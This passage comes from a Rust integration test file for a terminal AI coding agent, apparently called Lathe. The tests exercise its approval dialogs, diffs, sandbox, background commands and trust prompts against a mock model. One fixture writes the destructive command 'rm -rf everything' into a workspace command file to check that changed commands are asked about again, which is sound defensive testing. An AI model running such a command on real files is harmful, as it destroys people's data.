    pane.keys(&["y"]);
    let screen = pane.wait_for("undid the file changes of turn 1").await;
    assert!(screen.contains("1 file restored (notes.txt)"), "{screen}");
    assert!(screen.contains("1 file removed (todo.txt)"), "{screen}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("notes.txt")).unwrap(),
        "remember the milk\n"
    );
    assert!(!ws.path().join("todo.txt").exists());
    pane.text("/rewind");
    pane.keys(&["Enter"]);
    let screen = pane.wait_for("Rewind to before a turn").await;
    assert!(screen.contains("turn 1"), "{screen}");
    assert!(screen.contains("switch milk to eggs"), "{screen}");
    pane.keys(&["Escape"]);
}

/// Hunk by hunk in a real terminal: the second of two hunks is left out,
/// the first approved; the file has exactly the first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_second_hunk_is_left_out_and_the_first_written() {
    if !have_tmux() {
        return;
    }
    let (ws, _mock, pane) = two_hunks_asked("Kept what you chose.").await;
    let dialog = pane.wait_for("Approve write_file?").await;
    assert!(dialog.contains("hunk 1 of 2 · 2 kept"), "{dialog}");
    pause().await;
    pane.keys(&["j"]);
    pane.keys(&["x"]);
    pane.wait_for("hunk 2 of 2 · 1 kept · +1 −1").await;
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("Kept what you chose.").await;
    let text = std::fs::read_to_string(ws.path().join("notes.txt")).unwrap();
    assert!(text.contains("line two\n"), "{text}");
    assert!(
        text.contains("line 25\n") && !text.contains("twenty-five"),
        "{text}"
    );
}

/// `E` in the dialog: the person's editor gets the proposed file and the
/// terminal; what they save is written, and the UI comes back whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e_writes_what_the_person_edited() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let tools = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("hello.py"), "print('helo')\n").unwrap();
    let editor = tools.path().join("editor.sh");
    std::fs::write(&editor, "#!/bin/sh\nsed -i 's/hello/HELLO THERE/' \"$1\"\n").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&editor, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "c1",
            "edit_file",
            json!({"path": "hello.py", "old_text": "print('helo')", "new_text": "print('hello')"}),
        )),
        Step::Reply(Reply::text("Noted your edit.")),
    ])
    .await;
    let pane = Pane::start_env(
        &mock,
        ws.path(),
        &format!("VISUAL='{}'", editor.display()),
        "",
    );
    pane.wait_for("approval ask").await;
    pane.text("fix the typo");
    pane.keys(&["Enter"]);
    pane.wait_for("Approve edit_file?").await;
    pause().await;
    pane.keys(&["E"]);
    // A second look at the person's version, then y writes it.
    let look = pane.wait_for("your edit:").await;
    assert!(look.contains("HELLO THERE"), "{look}");
    pause().await;
    pane.keys(&["y"]);
    let done = pane.wait_for("Noted your edit.").await;
    assert!(done.contains("you edited and approved it"), "{done}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("hello.py")).unwrap(),
        "print('HELLO THERE')\n"
    );
    let sent = tool_results(&mock.requests()[1]);
    assert!(
        sent[0].1.to_string().contains("edited your change"),
        "{sent:?}"
    );
    // The editor again (Ctrl-G on a message): the UI comes back each time.
    pane.text("say hello");
    pane.keys(&["C-g"]);
    let back = pane.wait_for("say HELLO THERE").await;
    assert!(back.contains("Noted your edit."), "{back}");
    pane.keys(&["C-u"]);
    pane.text("and hello");
    pane.keys(&["C-g"]);
    pane.wait_for("and HELLO THERE").await;
}

/// The issue's "done when", in a real terminal: a change of three files
/// (an edit of two hunks, a deletion, a move) reviewed one call at a time,
/// a hunk left out; every change stays in the transcript and
/// `/diff` shows the session's; `/model ` offers the provider's models.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_three_file_change_is_reviewed_call_by_call() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let old: String = (1..=30).map(|i| format!("line {i}\n")).collect();
    std::fs::write(ws.path().join("notes.txt"), &old).unwrap();
    std::fs::write(ws.path().join("old.txt"), "obsolete\n").unwrap();
    std::fs::write(ws.path().join("draft.md"), "# Draft\n").unwrap();
    let new = old
        .replace("line 2\n", "line two\n")
        .replace("line 25\n", "line twenty-five\n");
    let mock = MockLlm::start(vec![
        Step::Reply(
            Reply::tools()
                .call(
                    "w",
                    "write_file",
                    json!({"path": "notes.txt", "content": new}),
                )
                .call("d", "delete_file", json!({"path": "old.txt"}))
                .call(
                    "m",
                    "move_file",
                    json!({"from": "draft.md", "to": "docs/final.md"}),
                ),
        ),
        Step::Reply(Reply::text("Three files done.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("tidy the three files");
    pane.keys(&["Enter"]);
    let dialog = pane.wait_for("Approve write_file?").await;
    assert!(dialog.contains("hunk 1 of 2 · 2 kept"), "{dialog}");
    assert!(dialog.contains("call 1 of 3"), "more may follow: {dialog}");
    pause().await;
    pane.keys(&["j"]);
    pane.keys(&["x"]);
    pane.wait_for("hunk 2 of 2 · 1 kept · +1 −1").await;
    pause().await;
    pane.keys(&["y"]);
    let dialog = pane.wait_for("Approve delete_file?").await;
    assert!(dialog.contains("call 2 of 3"), "{dialog}");
    assert!(dialog.contains("delete old.txt"), "{dialog}");
    assert!(dialog.contains("obsolete"), "{dialog}");
    pause().await;
    pane.keys(&["y"]);
    let dialog = pane.wait_for("Approve move_file?").await;
    assert!(dialog.contains("move draft.md → docs/final.md"), "{dialog}");
    pause().await;
    pane.keys(&["y"]);
    let done = pane.wait_for("Three files done.").await;
    let text = std::fs::read_to_string(ws.path().join("notes.txt")).unwrap();
    assert!(text.contains("line two\n") && !text.contains("twenty-five"));
    assert!(!ws.path().join("old.txt").exists());
    assert_eq!(
        std::fs::read_to_string(ws.path().join("docs/final.md")).unwrap(),
        "# Draft\n"
    );
    // The changes stay, as written.
    assert!(done.contains("┊ +line two"), "{done}");
    assert!(done.contains("┊ -obsolete"), "{done}");
    pane.text("/diff");
    pane.keys(&["Enter"]);
    let page = pane.wait_for("files changed,").await;
    // A summary first: the counts, and the files with theirs.
    assert!(page.contains("3 files changed, +1 −2"), "{page}");
    assert!(page.contains("› docs/final.md  +0 −0"), "{page}");
    assert!(page.contains("moved from draft.md"), "{page}");
    assert!(
        page.contains("old.txt") && page.contains("deleted"),
        "{page}"
    );
    assert!(page.contains("rename from draft.md"), "{page}");
    assert!(page.contains("rename to docs/final.md"), "{page}");
    // ↓ chooses the next file, Enter goes to its patch.
    pane.keys(&["Down"]);
    pause().await;
    pane.keys(&["Enter"]);
    // (The page fits: it cannot scroll, so the margin marks the file.)
    let page = pane.wait_for("›diff --git a/notes.txt").await;
    assert!(page.contains("+line two"), "{page}");
    assert!(
        page.contains("-obsolete") && page.contains("deleted file"),
        "{page}"
    );
    pane.keys(&["Escape"]);
    // `/model ` lists the models the mock serves, the one in use marked.
    pane.text("/model mock-");
    let popup = pane.wait_for("models (type to narrow)").await;
    assert!(popup.contains("mock-large"), "{popup}");
    assert!(popup.contains("●mock-model"), "{popup}");
}

/// A thinking model: its thinking streams dimmed, folds to one line once
/// the answer starts, and Ctrl-O shows it again; the status bar and
/// `/cost` say what the session has cost.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn thinking_folds_and_the_cost_is_shown() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("notes.txt"), "blank input returns None\n").unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join("config.toml"),
        "[models.\"mock-model\"]\nprice = { input = 3.0, cached_input = 0.3, cache_write = 3.75, output = 15.0 }\n",
    )
    .unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(
            Reply::tools()
                .think("The test expects an empty list.\nI should read the notes first.")
                .call("c1", "read_file", json!({"path": "notes.txt"})),
        ),
        Step::Reply(Reply {
            input_tokens: 40_000,
            output_tokens: 900,
            ..Reply::text("parse returns None for blank input.")
                .think("The notes say it: blank input.")
                .cached(30_000)
        }),
    ])
    .await;
    let pane = Pane::start_home(&mock, ws.path(), home, "", "");
    pane.wait_for("approval ask").await;
    pane.type_slowly("why does the test fail?", Duration::from_millis(20))
        .await;
    pane.keys(&["Enter"]);
    let done = pane.wait_for("parse returns None for blank input.").await;
    // Each round's thinking folded to one line, the answer in full.
    assert!(done.contains("∴ thought for"), "{done}");
    assert!(done.contains("Ctrl-O shows it"), "{done}");
    assert!(!done.contains("The notes say it"), "folded: {done}");
    // The status bar: what the session has cost.
    let bar = done.lines().last().unwrap_or("").to_string();
    let bar = if bar.trim().is_empty() {
        done.lines()
            .rev()
            .find(|l| !l.trim().is_empty())
            .unwrap_or("")
            .to_string()
    } else {
        bar
    };
    assert!(bar.contains('$'), "{bar}");
    tokio::time::sleep(Duration::from_millis(300)).await;
    pane.keys(&["C-o"]);
    let open = pane.wait_for("The notes say it: blank input.").await;
    assert!(open.contains("Ctrl-O hides it"), "{open}");
    tokio::time::sleep(Duration::from_millis(300)).await;
    pane.type_slowly("/cost", Duration::from_millis(30)).await;
    pane.keys(&["Enter"]);
    let cost = pane.wait_for("cost of this session").await;
    assert!(cost.contains("mock-model: $"), "{cost}");
    assert!(cost.contains("from cache"), "{cost}");
}

/// Reads and searches read as a person's summary: one folded line for a
/// round of them, opened with Enter on an empty composer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reads_and_searches_fold_into_one_line_that_enter_opens() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("app.py"), "def top_words():\n    pass\n").unwrap();
    std::fs::write(ws.path().join("test_app.py"), "from app import top_words\n").unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(
            Reply::tools()
                .call("g", "glob", json!({"pattern": "**/*.py"}))
                .call("r", "read_file", json!({"path": "app.py"}))
                .call("s", "grep", json!({"pattern": "top_words|old_count"})),
        ),
        Step::Reply(Reply::text("`top_words` is defined in app.py.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    // `?` on the empty line: the keys, closed with Esc; /help: a table.
    pane.keys(&["?"]);
    pane.wait_for("Keys · writing a message").await;
    pane.keys(&["Escape"]);
    pane.text("/help");
    pane.keys(&["Enter"]);
    let help = pane
        .wait_for("Commands (? on an empty line shows the keys):")
        .await;
    assert!(!help.contains("Keys ·"), "{help}");
    assert!(help.contains("  /diff         every change"), "{help}");
    pane.text("where is top_words?");
    pane.keys(&["Enter"]);
    let screen = pane.wait_for("is defined in app.py").await;
    assert!(
        screen.contains("✓ Explored: read 1 file, searched 2 patterns · Enter or a click opens"),
        "{screen}"
    );
    // No sizes on the calls' lines (the temp dir's name may end in B).
    let calls = screen.lines().filter(|l| l.trim_start().starts_with('✓'));
    for line in calls {
        assert!(!line.contains(" B") && !line.contains("KiB"), "{line}");
    }
    pane.keys(&["Enter"]);
    let open = pane.wait_for("✓ glob **/*.py · 2 files").await;
    assert!(
        open.contains("✓ grep top_words|old_count · 2 matches in 2 files"),
        "{open}"
    );
    assert!(
        open.contains("✓ read_file app.py · lines 1-2 of 2"),
        "{open}"
    );
    // The byte sizes are the log's.
    pane.keys(&["C-t"]);
    let log = pane.wait_for("Tool calls (3)").await;
    assert!(log.contains(" B"), "{log}");
}

/// A quit and `--continue` bring the transcript back as it was drawn: the
/// change's diff, the command's last lines and failing exit, the denial,
/// how each call was approved.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resumed_transcript_looks_as_it_did() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("notes.txt"), "remember the milk\n").unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "e",
            "edit_file",
            json!({"path": "notes.txt", "old_text": "milk", "new_text": "eggs"}),
        )),
        Step::Reply(Reply::tools().call(
            "x",
            "exec_shell",
            json!({"command": "printf 'one\\ntwo\\nthree\\n'; exit 1"}),
        )),
        Step::Reply(Reply::tools().call(
            "w",
            "write_file",
            json!({"path": "todo.txt", "content": "eggs\n"}),
        )),
        Step::Reply(Reply::text("Done, mostly.")),
    ])
    .await;
    let first = Pane::start(&mock, ws.path(), "");
    let home = first.home.path().to_path_buf();
    first.wait_for("approval ask").await;
    first.text("swap milk for eggs");
    first.keys(&["Enter"]);
    // (printf runs unasked: it changes nothing.)
    for (dialog, key) in [("Approve edit_file?", "y"), ("Approve write_file?", "n")] {
        first.wait_for(dialog).await;
        pause().await;
        first.keys(&[key]);
    }
    let before = first.wait_for("Done, mostly.").await;
    // What the calls looked like: their lines, diffs and output.
    let drawn: Vec<String> = before
        .lines()
        .filter(|l| {
            ["✓", "✗", "⊘", "┊", "│ "]
                .iter()
                .any(|m| l.trim_start().starts_with(m))
        })
        .map(|l| l.trim_end().to_string())
        .collect();
    assert!(
        drawn.iter().any(|l| l.contains("┊ +remember the eggs")),
        "{before}"
    );
    assert!(drawn.iter().any(|l| l.contains("│ three")), "{before}");
    assert!(drawn.iter().any(|l| l.contains("exit 1")), "{before}");
    assert!(
        drawn.iter().any(|l| l.starts_with("⊘ write_file")),
        "{before}"
    );
    first.text("/quit");
    first.keys(&["Enter"]);
    first.wait_for("EXIT=").await;

    let again = Pane::open(
        &format!(
            "{}; echo \"EXIT=$?\"; sleep 600",
            lathe_line(&mock, ws.path(), &home, "", "--continue")
        ),
        tempfile::tempdir().unwrap(),
    );
    let screen = again.wait_for("resumed session").await;
    for line in &drawn {
        assert!(
            screen.contains(line.as_str()),
            "{line:?} is gone:\n{screen}"
        );
    }
    assert!(!screen.contains("earlier"), "{screen}");
    assert!(screen.contains("you approved"), "{screen}");
}

/// A question that waits while the person is in another window calls
/// them back (a notification, with the bell: tmux flags the window).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_question_waiting_while_the_person_is_away_calls_them_back() {
    if !have_tmux() {
        return;
    }
    let (_ws, _mock, pane) = two_hunks_asked("done").await;
    pane.wait_for("Approve write_file?").await;
    // The person goes to another window, and the terminal says Lathe's
    // lost focus (`ESC [ O`, as a terminal reports it; a detached tmux
    // sends none of its own).
    pane.tmux(&["new-window", "-d", "sleep 60"]);
    pane.tmux(&["select-window", "-t", ":1"]);
    pane.tmux(&["send-keys", "-t", ":0", "-H", "1b", "5b", "4f"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let flag = pane.tmux(&["display-message", "-p", "-t", ":0", "#{window_bell_flag}"]);
        if flag.trim() == "1" {
            break;
        }
        assert!(Instant::now() < deadline, "no bell from the waiting window");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The person's own command, from a prompt file beside their config:
/// offered in the popup with its first line, sent with its argument.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_persons_own_command_is_offered_and_sent() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join("commands")).unwrap();
    std::fs::write(
        home.path().join("commands/review.md"),
        "# Review a file for bugs\n\nReview $ARGUMENTS for bugs; say what you found.\n",
    )
    .unwrap();
    let mock = MockLlm::start(vec![Step::Reply(Reply::text("No bugs found."))]).await;
    let pane = Pane::start_home(&mock, ws.path(), home, "", "");
    pane.wait_for("approval ask").await;
    pane.type_slowly("/rev", Duration::from_millis(150)).await;
    pane.wait_for("/review Review a file for bugs").await;
    pane.type_slowly("iew app.py", Duration::from_millis(60))
        .await;
    pane.keys(&["Enter"]);
    pane.wait_for("No bugs found.").await;
    let body = &mock.requests()[0].body;
    let last = body["messages"]
        .as_array()
        .and_then(|m| m.last())
        .map(|m| m["content"].to_string())
        .unwrap_or_default();
    assert!(
        last.contains("Review app.py for bugs; say what you found."),
        "{last}"
    );
}

/// The model shows its plan and asks a question: the plan is pinned above
/// the composer, the question has its panel, `2` and Enter answer it (after
/// the quiet moment). While a command runs, a message sent with Enter
/// waits in sight and reaches the model with its next request.
#[tokio::test]
async fn the_model_asks_shows_its_plan_and_takes_a_message_mid_turn() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(
            Reply::tools()
                .call(
                    "p1",
                    "update_plan",
                    json!({"steps": [
                        {"step": "ask which port", "status": "done"},
                        {"step": "start the dev server", "status": "in_progress"},
                        {"step": "check it answers", "status": "pending"},
                    ]}),
                )
                .call(
                    "q1",
                    "ask_user",
                    json!({"question": "Which port should the dev server use?", "choices": ["3000", "8080"]}),
                ),
        ),
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "sleep 3"}))),
        Step::Reply(Reply::text("Started on 8080, docs noted.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
    pane.wait_for("approval full-auto").await;
    pane.type_slowly("start the server", Duration::from_millis(40))
        .await;
    pane.keys(&["Enter"]);
    let shown = pane.wait_for("The model asks").await;
    assert!(
        shown.contains("Which port should the dev server use?"),
        "{shown}"
    );
    assert!(shown.contains("Plan · 1 of 3 done"), "{shown}");
    assert!(shown.contains("? ask_user"), "{shown}");
    pause().await;
    pane.keys(&["2"]);
    tokio::time::sleep(Duration::from_millis(250)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("you answered: 8080").await;
    pane.wait_for("sleep 3").await;
    pane.type_slowly("also update the docs", Duration::from_millis(40))
        .await;
    pane.keys(&["Enter"]);
    let shown = pane.wait_for("for the model's next step").await;
    assert!(shown.contains("also update the docs"), "{shown}");
    pane.wait_for("Started on 8080, docs noted.").await;
    let requests = mock.requests();
    assert_eq!(requests.len(), 3);
    assert!(
        requests[1].body.to_string().contains("8080"),
        "the answer went back to the model"
    );
    let third = requests[2].body.to_string();
    assert!(
        third.contains("also update the docs") && third.contains("while you were working"),
        "{third}"
    );
    let shown = pane.screen();
    assert!(!shown.contains("for the model's next step"), "{shown}");
}

/// `/plan`: the model looks with read-only tools and proposes a plan,
/// pinned above the composer; "Carry out the plan?" and `y` send the
/// approval, and the next turn acts in the mode chosen.
#[tokio::test]
async fn a_plan_is_proposed_approved_and_carried_out() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "p1",
            "update_plan",
            json!({"steps": [
                {"step": "write notes.md", "status": "pending"},
                {"step": "say what it holds", "status": "pending"},
            ]}),
        )),
        Step::Reply(Reply::text("First notes.md, then a summary.")),
        Step::Reply(Reply::tools().call(
            "w1",
            "write_file",
            json!({"path": "notes.md", "content": "# Notes\n"}),
        )),
        Step::Reply(Reply::text("Done: notes.md holds a heading.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
    pane.wait_for("approval full-auto").await;
    pane.type_slowly("/plan write some notes", Duration::from_millis(40))
        .await;
    pane.keys(&["Enter"]);
    let shown = pane.wait_for("Carry out the plan?").await;
    assert!(shown.contains("Plan · 0 of 2 done"), "{shown}");
    assert!(shown.contains("○ write notes.md"), "{shown}");
    assert!(!ws.path().join("notes.md").exists());
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("Done: notes.md holds a heading.").await;
    assert!(ws.path().join("notes.md").exists());
    let requests = mock.requests();
    let first = requests[0].body.to_string();
    assert!(
        !first.contains("\"write_file\""),
        "plan mode offers no writes"
    );
    assert!(
        requests[2]
            .body
            .to_string()
            .contains("The plan is approved"),
        "the approval went to the model"
    );
    assert!(requests[2].body.to_string().contains("\"write_file\""));
}

/// A command the model starts in the background is counted in the status
/// bar; `/ps` lists it with its last lines, and `k` stops it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ps_lists_a_background_command_and_k_stops_it() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let marker = format!("serving{}", std::process::id());
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "b1",
            "exec_shell",
            json!({
                "command": format!("echo {marker} on 5173; while true; do sleep 0.5; done"),
                "background": true,
            }),
        )),
        Step::Reply(Reply::text("The dev server runs.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
    pane.wait_for("approval full-auto").await;
    pane.type_slowly("start the dev server", Duration::from_millis(30))
        .await;
    pane.keys(&["Enter"]);
    pane.wait_for("The dev server runs.").await;
    pane.wait_for("1 in background (/ps)").await;
    pane.type_slowly("/ps", Duration::from_millis(80)).await;
    pane.keys(&["Enter"]);
    let shown = pane.wait_for("Background commands (/ps)").await;
    assert!(shown.contains("bg1"), "{shown}");
    pane.wait_for(&format!("{marker} on 5173")).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    pane.keys(&["k"]);
    pane.wait_for("stopped").await;
    pane.keys(&["Escape"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while pane.screen().contains("in background (/ps)") {
        assert!(Instant::now() < deadline, "{}", pane.screen());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(!running(&marker), "the command outlived its stop");
}

/// A workspace's own commands (`.lathe/commands/`) are offered only once
/// the person trusts them, as they are: the trust question lists them,
/// `y` offers them, and the next start in the same workspace asks no
/// more until one changes.
#[tokio::test]
async fn a_workspaces_commands_wait_for_trust() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let commands = ws.path().join(".lathe/commands");
    std::fs::create_dir_all(&commands).unwrap();
    std::fs::write(
        commands.join("deploy.md"),
        "# Ship it to staging\n\nDeploy $ARGUMENTS to staging.\n",
    )
    .unwrap();
    // One home for the three starts (a pane's own goes with it).
    let home = tempfile::tempdir().unwrap();
    let home_path = home.path().to_path_buf();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::text("Deployed.")),
        Step::Reply(Reply::text("Again.")),
    ])
    .await;
    let pane = Pane::open(
        &format!(
            "{}; sleep 600",
            lathe_line(&mock, ws.path(), &home_path, "", "")
        ),
        tempfile::tempdir().unwrap(),
    );
    let shown = pane.wait_for("Offer this workspace's commands?").await;
    assert!(shown.contains("/deploy Ship it to staging"), "{shown}");
    assert!(shown.contains("│ Deploy $ARGUMENTS to staging."), "{shown}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("commands are trusted").await;
    pane.type_slowly("/dep", Duration::from_millis(120)).await;
    pane.wait_for("/deploy").await;
    pane.type_slowly("loy web", Duration::from_millis(60)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("Deployed.").await;
    assert!(
        mock.requests()[0]
            .body
            .to_string()
            .contains("Deploy web to staging.")
    );
    drop(pane);
    // Trusted as they are: the next start offers them without asking.
    let again = Pane::open(
        &format!(
            "{}; sleep 600",
            lathe_line(&mock, ws.path(), &home_path, "", "")
        ),
        tempfile::tempdir().unwrap(),
    );
    again.wait_for("approval ask").await;
    assert!(!again.screen().contains("Offer this workspace's commands?"));
    again
        .type_slowly("/deploy api", Duration::from_millis(60))
        .await;
    again.keys(&["Enter"]);
    again.wait_for("Again.").await;
    // Changed, it is asked about again.
    drop(again);
    std::fs::write(
        commands.join("deploy.md"),
        "# Ship it\n\nrm -rf everything\n",
    )
    .unwrap();
    let third = Pane::open(
        &format!(
            "{}; sleep 600",
            lathe_line(&mock, ws.path(), &home_path, "", "")
        ),
        tempfile::tempdir().unwrap(),
    );
    third.wait_for("Offer this workspace's commands?").await;
    drop(home);
}

/// The dev server of the issue, in the default sandbox (`ask`, the
/// network off): `python3 -m http.server` in the background, approved in
/// the dialog (which says what reaches it), is fetched from outside as a
/// browser would, and the model's read says what it found. A server
/// bound to another machine's address fails at once: its output and the
/// sandbox's note are on its line, and running it outside is offered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dev_server_runs_in_the_default_sandbox_and_a_browser_reaches_it() {
    use std::io::{Read, Write};
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("index.html"), "<h1>dev server</h1>\n").unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "s1",
            "exec_shell",
            json!({"command": format!("python3 -u -m http.server {port}"), "background": true}),
        )),
        Step::Reply(Reply::tools().call(
            "o1",
            "shell_output",
            json!({"handle": "bg1", "wait_ms": 15000}),
        )),
        Step::Reply(Reply::tools().call(
            "s2",
            "exec_shell",
            json!({"command": "python3 -u -m http.server 8999 --bind 192.0.2.7", "background": true}),
        )),
        Step::Reply(Reply::text("Both tried.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.type_slowly("start the dev server", Duration::from_millis(30))
        .await;
    pane.keys(&["Enter"]);
    let dialog = pane.wait_for("Approve exec_shell?").await;
    assert!(dialog.contains("your browser reaches it"), "{dialog}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("runs in the background as bg1").await;
    // The person's browser.
    let body = tokio::task::spawn_blocking(move || {
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            if let Ok(mut s) = std::net::TcpStream::connect(("localhost", port)) {
                let _ = write!(s, "GET / HTTP/1.0\r\n\r\n");
                let mut body = String::new();
                let _ = s.read_to_string(&mut body);
                if body.starts_with("HTTP/") {
                    return body;
                }
            }
            assert!(
                Instant::now() < deadline,
                "the dev server was never reached"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    })
    .await
    .unwrap();
    assert!(body.contains("<h1>dev server</h1>"), "{body}");
    pane.wait_for("shell_output bg1 · 1 new line · still running")
        .await;
    // Bound to another machine's address: refused, and said so.
    let dialog = pane.wait_for("Approve exec_shell?").await;
    assert!(dialog.contains("192.0.2.7"), "{dialog}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("run it again outside the sandbox").await;
    pause().await;
    pane.keys(&["n"]);
    let screen = pane.wait_for("Both tried.").await;
    assert!(
        screen.contains("the sandbox refused to listen on 192.0.2.7:8999; the model can ask"),
        "{screen}"
    );
    assert!(
        screen.contains("Cannot assign requested address"),
        "{screen}"
    );
    // Quitting while the dev server runs asks, and says what it stopped.
    pane.type_slowly("/quit", Duration::from_millis(80)).await;
    pane.keys(&["Enter"]);
    let asked = pane.wait_for("Quit?").await;
    assert!(
        asked.contains(&format!("bg1 python3 -u -m http.server {port}")),
        "{asked}"
    );
    pause().await;
    pane.keys(&["y"]);
    let end = pane.wait_for("EXIT=").await;
    assert!(
        end.contains(&format!(
            "Stopped in the background: bg1 python3 -u -m http.server {port}"
        )),
        "{end}"
    );
    assert!(
        std::net::TcpStream::connect(("127.0.0.1", port)).is_err(),
        "the dev server outlived the quit"
    );
}

/// A correction typed at a person's pace while the dialog opens, a
/// pause, Enter: it goes to the running turn (the dialog still waits),
/// and after `y` it is in the very next request the model gets.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_correction_typed_as_the_dialog_opens_reaches_the_model() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "touch made.txt"}))),
        Step::Reply(Reply::text("Noted the correction.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.type_slowly("make a file", Duration::from_millis(30))
        .await;
    pane.keys(&["Enter"]);
    // Typing on as the dialog opens.
    pane.type_slowly("call it notes.txt instead", Duration::from_millis(120))
        .await;
    pane.wait_for("Approve exec_shell?").await;
    pause().await;
    let screen = pane.wait_for("Enter sends this to the turn").await;
    assert!(screen.contains("call it notes.txt instead"), "{screen}");
    pane.keys(&["Enter"]);
    // Sent: it waits above the composer for the model, the dialog stays.
    let deadline = Instant::now() + Duration::from_secs(10);
    while pane.screen().contains("working… (Enter sends this") {
        assert!(Instant::now() < deadline, "{}", pane.screen());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(
        pane.screen().contains("Approve exec_shell?"),
        "{}",
        pane.screen()
    );
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("Noted the correction.").await;
    let second = mock.requests()[1].body.to_string();
    assert!(second.contains("call it notes.txt instead"), "{second}");
}

/// A correction that begins with an answer's letter ("also…"), typed at
/// a person's pace (0.25 s apart) as the dialog opens on an empty
/// composer: every letter lands in the composer, the `a` too, and none
/// answers; Enter sends it whole and `n` then denies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_correction_starting_with_an_answer_key_is_typed_whole() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "touch three.txt"}))),
        Step::Reply(Reply::text("Four it is.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.type_slowly("make three files", Duration::from_millis(30))
        .await;
    pane.keys(&["Enter"]);
    pane.wait_for("Approve exec_shell?").await;
    pane.type_slowly("also add four", Duration::from_millis(250))
        .await;
    pause().await;
    let screen = pane.wait_for("Enter sends this to the turn").await;
    assert!(screen.contains("also add four"), "{screen}");
    assert!(screen.contains("Approve exec_shell?"), "{screen}");
    assert!(!ws.path().join("three.txt").exists());
    pane.keys(&["Enter"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while pane.screen().contains("working… (Enter sends this") {
        assert!(Instant::now() < deadline, "{}", pane.screen());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    pause().await;
    pane.keys(&["n"]);
    pane.wait_for("Four it is.").await;
